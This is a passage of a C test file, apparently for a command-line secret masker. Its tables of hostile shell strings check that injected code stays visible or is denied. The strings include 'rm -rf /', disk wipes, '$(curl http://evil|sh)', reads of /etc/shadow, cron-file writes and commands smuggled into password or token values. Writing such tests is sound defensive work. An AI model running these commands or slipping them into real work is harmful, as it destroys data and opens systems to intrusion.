/* SPDX-License-Identifier: ISC */
/* Which command lines have code that is not read here, so that nothing of them may be covered; and
 * attempts to hide code behind a mask: what is dangerous stays visible, or the request is denied. */
#include "mask-lines.h"

#include "mask/subject.h"

enum { LIMIT = 12 * 1024 };

static void code_in_the_command_line(void **state)
{
    static const struct {
        const char *line;
        bool code;
    } rows[] = {
        { "systemctl :: restart :: nginx", false },
        { "mysql :: -psecret :: db", false }, /* what is typed into it stands in no word */
        { "psql :: -h :: db :: -U :: app", false },
        { "bash", false },
        { "python3", false },
        { "sh :: -c :: mysqldump -psecret db > /root/x", false },
        { "sh :: -c :: echo 1 | bash", true },
        { "sh :: -c :: echo aWQ= | base64 -d | sh", true },
        { "sh :: -c :: $CMD", true },
        { "sh :: -c :: eval $X", true },
        { "sh :: -c :: . /tmp/x", true },
        { "python3 :: -c :: print(1)", true },
        { "perl :: -e :: 1", true },
        { "awk :: {print} :: /etc/passwd", true },
        { "env :: A=b :: python3 :: -c :: 1", true },
        { "tar :: -xf :: a :: --to-command=sh x", true },
        { "psql :: -c :: \\! id", true },
        { "sed :: s/a/id/e :: f", true },
        { "sed :: -i :: s/a/b/ :: f", false },
        { "ssh :: host :: id", true },
        { "docker :: exec :: c :: id", false },
        { "docker :: exec :: c :: sh :: -c :: id; ls", false },
        { "docker :: exec :: c :: sh :: -c :: $X", true },
        { "docker :: exec :: c :: bash :: -lc :: eval $X", true },
        { "kubectl :: exec :: p :: -- :: python3 :: -c :: 1", true },
        { "kubectl :: exec :: p :: -- :: python3 :: /srv/x.py", false },
        { "kubectl :: exec :: p :: -- :: sh :: -c :: sh -c '$X'", true },
        { "lxc :: exec :: c :: -- :: env :: T=x :: sh :: -c :: $T", true },
        { "grep :: -r :: bash :: /etc", false },
        { "fish :: -c :: id", true },
    };

    (void)state;
    for (size_t i = 0; i < AA_ARRAY_SIZE(rows); i++) {
        struct aa_request *request = mask_request(rows[i].line);
        const char *why = NULL;

        assert_int_equal(aa_mask_has_code(NULL, request, &why), 0);
        check((why != NULL) == rows[i].code, "%s: %s", rows[i].line, why != NULL ? why : "no code");
        aa_request_free(request);
    }
}

/* Each tries to have "dangerous" covered. */
static const struct attempt {
    const char *line, *dangerous, *variable;
} attempts[] = {
    /* values that are code of a shell */
    { "sh :: -c :: PASSWORD=x; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: PASSWORD=x;rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: http x; PASSWORD=x; rm -rf /", "rm -rf /", NULL },
    { "env :: A=b :: sh :: -c :: PASSWORD=x; rm -rf /", "rm -rf /", NULL },
    { "env :: -i :: sh :: -c :: PASSWORD=x& rm -rf /", "rm -rf /", NULL },
    { "TOKEN=a b :: sh :: -c :: PASSWORD=x; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: config set db.password rm; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: docker login -p 'x; rm -rf /' y; rm -rf /etc", "rm -rf /etc", NULL },
    { "sh :: -c :: echo 'docker login -p 'x; rm -rf / #'", "rm -rf /", NULL },
    { "sh :: -c :: echo 'Bearer 'xxxxxxxxxx; rm -rf / #'", "rm -rf /", NULL },
    { "sh :: -c :: (echo a; rm -rf /) | passwd bob", "rm -rf /", NULL },
    { "sh :: -c :: passwd bob <<< $(printf '%s' a; rm -rf /)", "rm -rf /", NULL },
    { "sh :: -c :: PASSWORD='x' rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: mysql -p$(rm -rf /) db", "$(rm -rf /)", NULL },
    { "sh :: -c :: mysql -p`reboot` db", "`reboot`", NULL },
    { "sh :: -c :: mysql -p\"$(cat /etc/shadow)\"", "$(cat /etc/shadow)", NULL },
    { "sh :: -c :: curl -u me:\"$(reboot)\" http://h", "$(reboot)", NULL },
    { "sh :: -c :: token=$(curl http://evil|sh) true", "$(curl http://evil|sh)", NULL },
    { "sh :: -c :: --password=x\nreboot", "reboot", NULL },
    { "sh :: -c :: true --password=x&reboot", "reboot", NULL },
    { "sh :: -c :: echo 'password: x' && reboot", "reboot", NULL },
    { "sh :: -c :: {\"password\":\"x\"};reboot", "reboot", NULL },
    { "sh :: -c :: curl 'http://h/?token=x'>/etc/cron.d/x", ">/etc/cron.d/x", NULL },
    { "sh :: -c :: curl http://u:p@h/;reboot", "reboot", NULL },
    { "sh :: -c :: curl http://u:`reboot`@h/", "reboot", NULL },
    { "sh :: -c :: x='-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----'; eval \"$x\"", "reboot", NULL },
    { "sh :: -c :: -----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----", "reboot", NULL },
    { "sh :: -c :: eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
      "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", NULL },
    { "sh :: -c :: AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE", NULL },
    { "sh :: -c :: nice AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE", NULL },
    { "sh :: -c :: ./x@example.com", "./x@example.com", NULL },
    { "nice :: ./x@example.com", "./x@example.com", NULL },
    { "bash :: /tmp/ghp_0123456789abcdefghijABCDEFGHIJ012345", "ghp_0123456789abcdefghijABCDEFGHIJ012345", NULL },
    { "env :: sk_live_4eC39HqLyjWDarjtT1zdp7dc", "sk_live_4eC39HqLyjWDarjtT1zdp7dc", NULL },
    { "xargs :: 4111111111111111", "4111111111111111", NULL },
    { "find :: / :: -exec :: x@example.com :: ;", "x@example.com", NULL },
    /* names that are used as code later */
    { "sh :: -c :: TOKEN=reboot; $TOKEN", "reboot", NULL },
    { "sh :: -c :: PASSWORD=reboot; eval $PASSWORD", "reboot", NULL },
    { "sh :: -c :: SECRET=reboot sh -c '$SECRET'", "reboot", NULL },
    { "env :: TOKEN=reboot :: sh :: -c :: $TOKEN", "reboot", NULL },
    { "env :: TOKEN=reboot :: python3 :: -c :: import os; os.system(os.environ['TOKEN'])", "reboot", NULL },
    { "sh :: -c :: $TOKEN", "reboot", "TOKEN=reboot" },
    { "python3 :: -c :: import os; os.system(os.environ['API_KEY'])", "reboot", "API_KEY=reboot" },
    { "sh :: -c :: sh -c \"$1\" x --password reboot", "reboot", NULL },
    { "sh :: -c :: \"$@\" :: x :: --password=reboot :: --token :: reboot", "reboot", NULL },
    { "docker :: exec :: c :: sh :: -c :: TOKEN=reboot; $TOKEN", "reboot", NULL },
    { "docker :: exec :: -e :: TOKEN=reboot :: c :: sh :: -c :: $TOKEN", "reboot", NULL },
    { "kubectl :: exec :: p :: -- :: sh :: -c :: eval $(echo cGFzc3dvcmQ9eDsgcmVib290 | base64 -d)",
      "cGFzc3dvcmQ9eDsgcmVib290", NULL },
    { "ssh :: host :: TOKEN=reboot; $TOKEN", "reboot", NULL },
    { "ssh :: host :: --password :: reboot", "reboot", NULL },
    /* code of interpreters */
    { "python3 :: -c :: password='rm -rf /'; import os; os.system(password)", "rm -rf /", NULL },
    { "python3 :: -c :: import os; os.system('AKIAIOSFODNN7EXAMPLE')", "AKIAIOSFODNN7EXAMPLE", NULL },
    { "python3 :: -c :: exec(__import__('base64').b64decode('cGFzc3dvcmQ9MTsgaW1wb3J0IG9zOyBvcy5yZWJvb3QoKQ=='))",
      "cGFzc3dvcmQ9MTsgaW1wb3J0IG9zOyBvcy5yZWJvb3QoKQ==", NULL },
    { "perl :: -e :: $password=q(x); system q(reboot)", "reboot", NULL },
    { "perl :: -e :: $password='reboot'; system $password", "reboot", NULL },
    { "ruby :: -e :: token='reboot';`#{token}`", "reboot", NULL },
    { "node :: -e :: const secret='reboot';require('child_process').execSync(secret)", "reboot", NULL },
    { "awk :: BEGIN{password=\"reboot\";system(password)}", "reboot", NULL },
    { "php :: -r :: $apikey='reboot';system($apikey);", "reboot", NULL },
    { "sh :: -c :: echo cGFzc3dvcmQ9eDsgcmVib290Cg== | base64 -d | sh", "cGFzc3dvcmQ9eDsgcmVib290Cg==", NULL },
    { "bash :: -c :: bash <<< 'password=x; reboot'", "reboot", NULL },
    { "bash :: -c :: bash <<< 'password=reboot; $password'", "reboot", NULL },
    /* files and places that look like values */
    { "rm :: -rf :: password=/etc", "/etc", NULL },
    { "rm :: -rf :: --password=/etc/shadow", "/etc/shadow", NULL },
    { "rm :: -rf :: token=x/../../etc", "/../../etc", NULL },
    { "rm :: -rf :: a@example.com/../../etc", "/../../etc", NULL },
    { "cp :: secret=../../etc/shadow :: /tmp", "../../etc/shadow", NULL },
    { "sh :: -c :: cat x > token=/etc/cron.d/x", "/etc/cron.d/x", NULL },
    { "dd :: if=/dev/zero :: of=/dev/sda :: password=x", "of=/dev/sda", NULL },
    { "curl :: https://good:x@evil.example/a :: -o :: /etc/cron.d/b", "evil.example", NULL },
    { "mysql :: -e :: SET PASSWORD='x'; DROP TABLE users", "DROP TABLE users", NULL },
    { "sh :: -c :: echo \"password='x\" ; rm -rf / ; echo \"'\"", "rm -rf /", NULL },
    { "sh :: -c :: password%3D%22x; rm -rf /%22", "rm -rf /", NULL },
    { "sh :: -c :: Cookie: a=b; LD_PRELOAD=evil.so ls", "evil.so", NULL },
    { "sh :: -c :: echo 'Cookie: 'a=b; LD_PRELOAD=evil.so ls", "evil.so", NULL },
    /* values that go on by a variable to where they would have to be seen */
    { "sh :: -c :: PASSWORD=etc; rm -rf /$PASSWORD", "=etc", NULL },
    { "sh :: -c :: PASSWORD=etc; cd /; rm -rf ${PASSWORD}", "=etc", NULL },
    { "sh :: -c :: PASSWORD=\"etc\" && rm -rf \"/${PASSWORD%x}\"", "\"etc\"", NULL },
    { "sh :: -c :: PASSWORD=etc; X=PASSWORD; rm -rf /${!X}", "=etc", NULL },
    { "bash :: -c :: password=-rf; rm $password /", "-rf", NULL },
    { "bash :: -c :: password=stop; systemctl $password nginx", "stop", NULL },
    { "bash :: -c :: token=passwd; cp /tmp/x /etc/$token", "=passwd", NULL },
    { "bash :: -c :: token=evil.com; curl http://$token/x -o /etc/cron.d/x", "evil.com", NULL },
    { "bash :: -c :: password=reboot; docker exec c $password", "reboot", NULL },
    { "bash :: -c :: password=reboot; docker exec c sh -c \"$password\"", "reboot", NULL },
    { "bash :: -c :: for x in password=etc; do rm -rf /${x#*=}; done", "=etc", NULL },
    { "sh :: -c :: set -- --password etc; rm -rf /$2", " etc", NULL },
    { "sh :: -c :: rm -rf \"/$2\" :: x :: --password :: etc", " etc", NULL },
    { "sh :: -c :: rm -rf $(echo token=etc | cut -d= -f2)", "=etc", NULL },
    { "sh :: -c :: rm -rf `echo token=etc | cut -d= -f2`", "=etc", NULL },
    { "sh :: -c :: echo token=etc | cut -d= -f2 | xargs rm -rf", "=etc", NULL },
    { "sh :: -c :: echo --password etc | while read a b; do rm -rf /$b; done", " etc", NULL },
    { "env :: PASSWORD=data :: sh :: -c :: rm -rf /srv/$PASSWORD", "=data", NULL },
    { "sh :: -c :: cat <<EOF | crontab\nPASSWORD=reboot\n* * * * * $PASSWORD\nEOF", "reboot", NULL },
    { "sh :: -c :: echo '* * * * * root token=reboot; $token' > /etc/cron.d/x", "reboot", NULL },
    { "sh :: -c :: printf 'token=reboot;$token' > /etc/profile.d/x.sh", "reboot", NULL },
    { "sh :: -c :: echo cGFzc3dvcmQ9eDsgcmVib290Cg== | base64 -d > /etc/cron.d/x", "cGFzc3dvcmQ9eDsgcmVib290Cg==", NULL },
    { "sh :: -c :: rm -rf /${PASSWORD:-etc}", ":-etc", NULL },
    { "sh :: -c :: rm -rf /${PASSWORD:=etc}", ":=etc", NULL },
    { "mount :: -o :: username=x,password=y,suid,exec :: //h/s :: /mnt", ",suid,exec", NULL },
    { "sh :: -c :: mount -o password=y,dev //h/s /mnt", ",dev", NULL },
    /* the same for programs that are not known to run anything */
    { "vagrant :: ssh :: -c :: token=reboot; $token", "reboot", NULL },
    { "certbot :: renew :: --post-hook :: password=reboot; $password", "reboot", NULL },
    { "certbot :: renew :: --deploy-hook=token=reboot && $token", "reboot", NULL },
    { "salt :: * :: cmd.run :: TOKEN=reboot; eval $TOKEN", "reboot", NULL },
    { "pdsh :: -w :: h :: TOKEN=reboot; $TOKEN", "reboot", NULL },
    { "virt-customize :: -a :: x :: --run-command :: TOKEN=reboot; $TOKEN", "reboot", NULL },
    { "docker :: run :: --entrypoint :: sh :: img :: -c :: TOKEN=reboot; $TOKEN", "reboot", NULL },
    { "docker :: exec :: c :: su :: -c :: TOKEN=reboot; $TOKEN", "reboot", NULL },
    { "docker :: exec :: c :: sudo :: -s :: TOKEN=reboot; $TOKEN", "reboot", NULL },
    { "kubectl :: run :: x :: --overrides={\"command\":[\"sh\",\"-c\",\"TOKEN=reboot; $TOKEN\"]}", "reboot", NULL },
    { "env :: GIT_SSH_COMMAND=token=reboot; $token :: git :: pull", "reboot", NULL },
    { "mysql :: -e :: SET @password='DROP TABLE users'; PREPARE s FROM @password", "DROP TABLE users", NULL },
    { "ssh :: -o :: ProxyCommand=sh -c 'password=reboot; $password' :: host", "reboot", NULL },
    { "systemd-run :: -p :: ExecStartPost=/bin/sh -c 'TOKEN=reboot; $TOKEN' :: true", "reboot", NULL },
    { "tmux :: send-keys :: password=reboot; $password :: Enter", "reboot", NULL },
    { "bash :: -c :: trap 'password=x reboot' EXIT", "reboot", NULL },
    { "bash :: -c :: shopt -s expand_aliases; alias token=reboot\ntoken", "reboot", NULL },
    { "sh :: -c :: --set=PASSWORD=x; rm -rf /", "; rm -rf /", NULL },
    /* options whose values go on as commands */
    { "myprog :: -c :: --password=x; rm -rf /", "; rm -rf /", NULL },
    { "myprog :: -c :: --password=x|tee /srv/x y", "tee /srv/x y", NULL },
    { "myprog :: -c :: --password=x\nreboot", "reboot", NULL },
    { "myprog :: -c :: --password=x<y reboot", "reboot", NULL },
    { "myprog :: -c :: --password=x$(rm -rf /)", "rm -rf /", NULL },
    { "myprog :: -c :: --password=x`rm -rf /`", "rm -rf /", NULL },
    { "myprog :: --exec :: --token=x& rm -rf /", "& rm -rf /", NULL },
    { "sg :: app :: --token=x; rm -rf /", "; rm -rf /", NULL },
    { "sg :: mysql :: -px; rm -rf /", "; rm -rf /", NULL },
    { "capsh :: mysql :: -- :: -c :: --password=x; rm -rf /", "; rm -rf /", NULL },
    { "sh :: -c :: --password=x; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: -- :: --password=x; rm -rf /", "rm -rf /", NULL },
    { "su :: -c :: --password=x; rm -rf /", "rm -rf /", NULL },
    { "su :: mysql :: -c :: -px; rm -rf /", "rm -rf /", NULL },
    { "su :: -c :: mysql; rm -rf /", "rm -rf /", NULL },
    { "runuser :: mysql :: -c :: -px; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: runuser mysql -c '-px; rm -rf /'", "rm -rf /", NULL },
    { "sh :: -c :: su -c --password='x; rm -rf /'", "rm -rf /", NULL },
    { "watch :: --token :: x; rm -rf /", "rm -rf /", NULL },
    { "watch :: prog :: --token :: x; rm -rf /", "rm -rf /", NULL },
    { "watch :: prog :: --token=x --delete", "--delete", NULL },
    { "watch :: mysql :: -px; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: --password=x | tee /etc/x", "tee /etc/x", NULL },
    { "sh :: -c :: --password=x > /etc/x", "/etc/x", NULL },
    { "sh :: -c :: --password=x$(rm -rf /)", "rm -rf /", NULL },
    { "sh :: -c :: --password=x`rm -rf /`", "rm -rf /", NULL },
    { "sh :: -c :: --password=x;rm${IFS}-rf${IFS}/", "-rf", NULL },
    { "sh :: -c :: --password=x\nrm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: --password=x&rm -rf /", "rm -rf /", NULL },
    { "flock :: /tmp/l :: -c :: --token=x; rm -rf /", "rm -rf /", NULL },
    { "flock :: /tmp/l :: --command=--token=x; rm -rf /", "rm -rf /", NULL },
    { "script :: -c :: --token=x; rm -rf / :: /dev/null", "rm -rf /", NULL },
    { "script :: --command=--token=x; rm -rf / :: /dev/null", "rm -rf /", NULL },
    { "parallel :: --token=x; rm -rf / :: ::: :: a", "rm -rf /", NULL },
    { "xargs :: sh :: -c :: --token=x; rm -rf /", "rm -rf /", NULL },
    { "op :: run :: -- :: sh :: -c :: PASSWORD=x; rm -rf /", "rm -rf /", NULL },
    { "snap :: run :: app.sh :: -c :: PASSWORD=x; rm -rf /", "rm -rf /", NULL },
    { "snap :: run :: --shell :: app :: -c :: PASSWORD=x; rm -rf /", "rm -rf /", NULL },
    { "heroku :: run :: PASSWORD=x; rm -rf /", "rm -rf /", NULL },
    { "heroku :: run :: -- :: sh :: -c :: PASSWORD=x; rm -rf /", "rm -rf /", NULL },
    { "vault :: ssh :: h :: PASSWORD=x; rm -rf /", "rm -rf /", NULL },
    { "env :: -Sdb_password=x rm -rf /", "rm -rf /", NULL },
    { "env :: -S :: db_password=x rm -rf /", "rm -rf /", NULL },
    { "env :: --split-string=db_password=x rm -rf /", "rm -rf /", NULL },
    { "env :: -S :: PASSWORD='x' rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: curl --cookie a=b; LD_PRELOAD=evil.so; ls", "evil.so", NULL },
    { "sh :: -c :: curl --cookie a=b; PATH=evil\nls", "evil", NULL },
    { "sh :: -c :: Authorization: Bearer x; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: Authorization: Digest nonce='x'; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: PASSWORD=a\\;rm; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: password: 'x' ; rm -rf / #'", "rm -rf /", NULL },
    { "sh :: -c :: password 'x' rm -rf / '", "rm -rf /", NULL },
    { "sh :: -c :: true # ' \npassword='x; rm -rf /'", "rm -rf /", NULL },
    { "sh :: -c :: cat <<A\n'\nA\npassword='; rm -rf /; '", "rm -rf /", NULL },
    { "sh :: -c :: login x password 'a'; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: identified by 'x'; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: <password>x; rm -rf /</password>", "rm -rf /", NULL },
    { "sh :: -c :: password=&quot;x; rm -rf /&quot;", "rm -rf /", NULL },
    { "sh :: -c :: config set db.password 'x'; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: kv put a/password x; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: mysql -p x; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: docker login -p x\nrm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: echo x | docker login -p -rf; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: A=mysql; rm -p -rf /", "-rf /", NULL },
    { "rm :: mysql :: -p-rf :: /etc", "/etc", NULL },
    { "chpasswd :: -c :: x; rm -rf /", "; ", NULL },
    { "nsenter :: -t :: 1 :: sh :: -c :: PASSWORD=x; rm -rf /", "rm -rf /", NULL },
    { "chroot :: /m :: sh :: -c :: --password=x; rm -rf /", "rm -rf /", NULL },
    { "docker :: exec :: c :: sh :: -c :: --password=x; rm -rf /", "rm -rf /", NULL },
    { "docker :: exec :: -e :: A=b :: c :: su :: mysql :: -c :: -px; rm -rf /", "rm -rf /", NULL },
    { "systemd-run :: sh :: -c :: --password=x; rm -rf /", "rm -rf /", NULL },
    { "bash :: -c :: -- :: --set=token=x; rm -rf /", "rm -rf /", NULL },
    { "sshpass :: -p :: x :: sh :: -c :: --password=x; rm -rf /", "rm -rf /", NULL },
    { "sshpass :: -p :: x; rm -rf / :: true", "; ", NULL },
    { "sh :: -c :: echo a=[password=x]; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: sed s/password=x/y/; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: password: str = x; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: password: 'a' 'b' ; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: echo \"password='\" ; rm -rf / ; echo '\"'", "rm -rf /", NULL },
    { "sh :: -c :: echo \\\"password=\\\"; rm -rf /; echo \\\"", "rm -rf /", NULL },
    { "sh :: -c :: echo \\'password=\\'; rm -rf /; echo \\'", "rm -rf /", NULL },
    { "sh :: -c :: echo $'\\'password='; rm -rf / ; '", "rm -rf /", NULL },
    { "sh :: -c :: echo ${x:-'}password='; rm -rf / ; '", "rm -rf /", NULL },
    { "sh :: -c :: case x in password='x') rm -rf /;; esac", "rm -rf /", NULL },
    { "sh :: -c :: echo #'\n password='; rm -rf / ; '", "rm -rf /", NULL },
    { "sh :: -c :: echo x#'password='; rm -rf / ; '", "rm -rf /", NULL },
    { "sh :: -c :: echo \"$(echo '\"')password='; rm -rf / ; '\"", "rm -rf /", NULL },
    { "sh :: -c :: echo `echo '`password='; rm -rf / ; '", "rm -rf /", NULL },
    { "sh :: -c :: user x identified by 'a'; rm -rf / #'", "rm -rf /", NULL },
    { "sh :: -c :: requirepass x; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: requirepass ; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: password=\nrm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: password=\\\nrm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: password= rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: password =x rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: password='' rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: token=x,a=b reboot", "reboot", NULL },
    { "sh :: -c :: Authorization: Digest a=b, nonce=x; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: Authorization: Digest nonce=x, rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: true password; value=reboot; $value", "reboot", NULL },
    { "sh :: -c :: DB_PASSWORD=x LD_PRELOAD=evil.so ls", "evil.so", NULL },
    { "sh :: -c :: curl -H 'Authorization: 'x; rm -rf / '", "rm -rf /", NULL },
    { "sh :: -c :: mysql -p'x'; rm -rf / '", "rm -rf /", NULL },
    { "sh :: -c :: mysql -p'x\nrm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: mysql -p\"x\"\nrm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: htpasswd -b f u; rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: htpasswd -b f u\nreboot", "reboot", NULL },
    { "sh :: -c :: htpasswd -b f u p -rf /", "-rf /", NULL },
    { "sh :: -c :: mysql -p#\nrm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: { mysql -p; rm -rf /; }", "rm -rf /", NULL },
    { "sh :: -c :: if mysql -p; then rm -rf /; fi", "rm -rf /", NULL },
    { "sh :: -c :: mysql --password then rm -rf /", "rm -rf /", NULL },
    { "sh :: -c :: mysql || rm -p/etc -rf x", "-rf x", NULL },
    { "sh :: -c :: mysql & rm -px -rf", "-px -rf", NULL },
    { "sh :: -c :: ! mysql\nrm -px", "-px", NULL },
    { "sh :: -c :: mysql () { rm -px; }", "-px", NULL },
    { "env :: mysql=1 :: rm :: -px", "-px", NULL },
    { "rm :: --one-file-system :: -- :: mysql :: -px", "-px", NULL },
    { "find :: mysql :: -password :: x :: -delete", "-delete", NULL },
    { "cp :: mysql :: -px :: /etc", "-px", NULL },
    { "tar :: -C :: mysql :: -pxf :: a.tar", "-pxf", NULL },
    { "install :: mysql :: -psm4755 :: /x", "-psm4755", NULL },
    { "chmod :: 4755 :: mysql :: -p4755", "4755 mysql -p4755", NULL },
    { "nice :: mysql :: -p :: rm", "-p rm", NULL },
    { "env :: PASSWORD=a b :: sh :: -c :: rm -rf /", "rm -rf /", NULL },
    { "env :: -u :: X :: -STOKEN=x rm -rf /", "rm -rf /", NULL },
    { "env :: A=1 :: -vSTOKEN=x rm -rf /", "rm -rf /", NULL },
    { "env :: --split=-i --token=x rm -rf /", "rm -rf /", NULL },
    { "env :: --split-string :: TOKEN=x rm -rf /", "rm -rf /", NULL },
    { "find :: / :: -exec :: sh :: -c :: TOKEN=x; rm -rf / :: ;", "rm -rf /", NULL },
    { "chroot :: /m :: env :: -STOKEN=x rm -rf /", "rm -rf /", NULL },
    { "rsync :: -e :: ssh --token=x -oProxyCommand=reboot :: a :: b", "ProxyCommand=reboot", NULL },
    { "git :: -c :: core.token=x rm :: status", "rm", NULL },
    { "xargs :: -I :: {} :: sh :: -c :: --token={}; rm -rf /", "rm -rf /", NULL },
    { "machinectl :: shell :: h :: /bin/sh :: -c :: TOKEN=x; rm -rf /", "rm -rf /", NULL },
    { "http :: PASSWORD=x; rm -rf / :: sh :: -c :: TOKEN=x; rm -rf /", "rm -rf /", NULL },
    { "vault :: run :: write :: sh :: -c :: TOKEN=x; rm -rf /", "TOKEN", NULL },
    { "heroku :: run :: set :: TOKEN=x; rm -rf /", "rm -rf /", NULL },
    { "snap :: -v :: run :: set :: TOKEN=x; rm -rf /", "rm -rf /", NULL },
    { "op :: plugin :: run :: set :: TOKEN=x; rm -rf /", "rm -rf /", NULL },
    { "op :: run :: --env-file=x :: -- :: create :: TOKEN=x; rm -rf /", "rm -rf /", NULL },
    { "snap :: set :: x :: a=b :: -- :: sh :: -c :: --token=x; rm -rf /", "rm -rf /", NULL },
    /* tokens that somebody writes themselves */
    { "rm :: -rf :: \xe2\x80\xb9secret:abcdefgh:4\xe2\x80\xba", "\\342\\200\\271secret:", NULL },
    { "sh :: -c :: \xe2\x80\xb9secret:abcdefgh:4\xe2\x80\xba", "\\342\\200\\271secret:", NULL },
};

static const unsigned char key[AA_SHA256_SIZE] = "a key of thirty-two bytes, about";

static void attempts_to_hide_code(void **state)
{
    size_t denied = 0;

    (void)state;
    assert_true(AA_ARRAY_SIZE(attempts) >= 100);
    for (size_t i = 0; i < AA_ARRAY_SIZE(attempts); i++) {
        const struct attempt *attempt = &attempts[i];
        struct aa_request *request = mask_request(attempt->line);
        _cleanup_buffer_ struct aa_buffer text = AA_BUFFER_INIT(64 * 1024);
        _cleanup_masker_ struct aa_masker masker = { .sets_n = 0 };
        const char *why = NULL;

        aa_masker_start(&masker, NULL, key);
        assert_int_equal(aa_mask_hides_code(&masker, request, &attempt->variable,
                                            attempt->variable != NULL, LIMIT, &why), 0);
        assert_null(masker.overrun);
        aa_mask_add_request(&text, &masker, request, LIMIT);
        denied += why != NULL;
        if (why == NULL)
            check(strstr(aa_buffer_text(&text), attempt->dangerous) != NULL ||
                      (attempt->variable != NULL && strstr(attempt->variable, attempt->dangerous) == NULL),
                  "%s: shown as %s", attempt->line, text.data);
        aa_request_free(request);
    }
    print_message("%zu attempts, %zu denied, the others visible\n", AA_ARRAY_SIZE(attempts), denied);
}

/* Where a variable goes to a place in which its value would be covered as well, nothing is hidden. */
static void secrets_that_stay_secrets(void **state)
{
    static const char *const lines[] = {
        "sh :: -c :: PGPASSWORD=abcdefg123 pg_dump db > /root/x",
        "sh :: -c :: PASSWORD=abcdefg123; mysqldump -p$PASSWORD db",
        "sh :: -c :: PASSWORD=abcdefg123; mysqldump -u root --password=\"${PASSWORD}\" db",
        "sh :: -c :: mysqldump -u root --password=${PASSWORD:-abcdefg123} db",
        "sh :: -c :: TOKEN=abcdefg123; curl -H \"Authorization: Bearer $TOKEN\" https://api.example.com/",
        "sh :: -c :: TOKEN=abcdefg123; curl -H \"X-Api-Key: $TOKEN\" https://api.example.com/",
        "sh :: -c :: PASSWORD=abcdefg123; curl -u \"admin:$PASSWORD\" https://api.example.com/",
        "sh :: -c :: export DB_PASSWORD=abcdefg123; docker run -e DB_PASSWORD=$DB_PASSWORD img",
        "sh :: -c :: for db in a b; do mysqldump -psecret99 $db > /backup/$db.sql; done",
        "sh :: -c :: DB=app; mysqldump -psecret99 $DB > /backup/$DB.sql",
        "sh :: -c :: echo 'root:S3cretpw99' | chpasswd",
        "sh :: -c :: echo \"password=abc99xyz\" >> /etc/app.conf",
        "psql :: postgres://u:pass99word@h/db :: -c :: select * from t",
    };

    (void)state;
    for (size_t i = 0; i < AA_ARRAY_SIZE(lines); i++) {
        struct aa_request *request = mask_request(lines[i]);
        _cleanup_buffer_ struct aa_buffer text = AA_BUFFER_INIT(64 * 1024);
        _cleanup_masker_ struct aa_masker masker = { .sets_n = 0 };
        const char *why = NULL;

        aa_masker_start(&masker, NULL, key);
        assert_int_equal(aa_mask_hides_code(&masker, request, NULL, 0, LIMIT, &why), 0);
        check(why == NULL, "%s: %s", lines[i], why);
        aa_mask_add_request(&text, &masker, request, LIMIT);
        check(strstr(aa_buffer_text(&text), "\xe2\x80\xb9secret:") != NULL, "%s: %s", lines[i], text.data);
        aa_request_free(request);
    }
}

/* A variable that the requester adds, used by a text that can be read. */
static void variables_that_are_handed_over(void **state)
{
    static const struct aa_variable added = { "PASSWORD", "nobody knows it", true };
    static const char *const told = "PASSWORD=etc";

    (void)state;
    for (int uses = 0; uses < 2; uses++) {
        struct aa_request *request = mask_request(uses ? "sh :: -c :: rm -rf /$PASSWORD" : "sh :: -c :: rm -rf /x");
        _cleanup_masker_ struct aa_masker masker = { .sets_n = 0 };
        const char *why = NULL;

        request->variables = &added;
        request->variables_n = 1;
        aa_masker_start(&masker, NULL, key);
        assert_int_equal(aa_mask_hides_code(&masker, request, &told, 1, LIMIT, &why), 0);
        assert_int_equal(why != NULL, uses);
        aa_request_free(request);
    }
}

/* What gives a value away may stand beside the command in which it is used. */
static void values_are_known_again(void **state)
{
    struct aa_request *request = mask_request("sh :: -c :: echo root:S3cretpw99 | chpasswd; cat S3cretpw99x");
    static const char *const echo[] = { "root:S3cretpw99", "S3cretpw99x", "/S3cretpw99" };
